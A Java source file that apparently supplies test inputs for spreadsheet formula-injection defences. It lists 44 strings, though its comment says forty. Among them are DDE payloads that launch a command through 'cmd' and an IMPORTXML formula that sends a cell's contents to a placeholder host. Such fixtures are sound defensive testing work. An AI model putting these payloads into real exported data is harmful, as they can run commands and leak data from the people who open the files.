package org.undersigned.base.sheet;

import java.util.List;
import java.util.stream.Stream;

/** Forty texts that some spreadsheet, somewhere on its way, takes for a formula. */
final class FormulaPrefixes {

    private static final List<String> TEXTS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.invalid\",\"open\")",
            "=cmd|' /C calc'!A0",
            "=A1",
            "==1+1",
            "=",
            "+1+1",
            "+44 20 7946 0958",
            "+cmd|' /C calc'!A0",
            "+",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-",
            "--1",
            "@SUM(1,1)",
            "@home",
            "@",
            "\t=1+1",
            "\t\t+1",
            "\tname",
            "\r=1+1",
            "\r\n=1+1",
            "\n=1+1",
            "\n@SUM(1,1)",
            "\0=1+1",
            "\0",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1,1)",
            "'=1+1",
            "''=1+1",
            "'",
            "'t Hooft",
            "'@home",
            "\"=1+1\"",
            "=1+1;=2+2",
            "=\"a\",=\"b\"",
            "=1+1\r\n=2+2",
            "=IMPORTXML(CONCAT(\"http://example.invalid?\",A1),\"//a\")",
            "%0A=1+1",
            " =1+1",
            "\u00A0=1+1",
            "|=1+1");

    private FormulaPrefixes() {}

    static Stream<String> all() {
        return TEXTS.stream();
    }
}
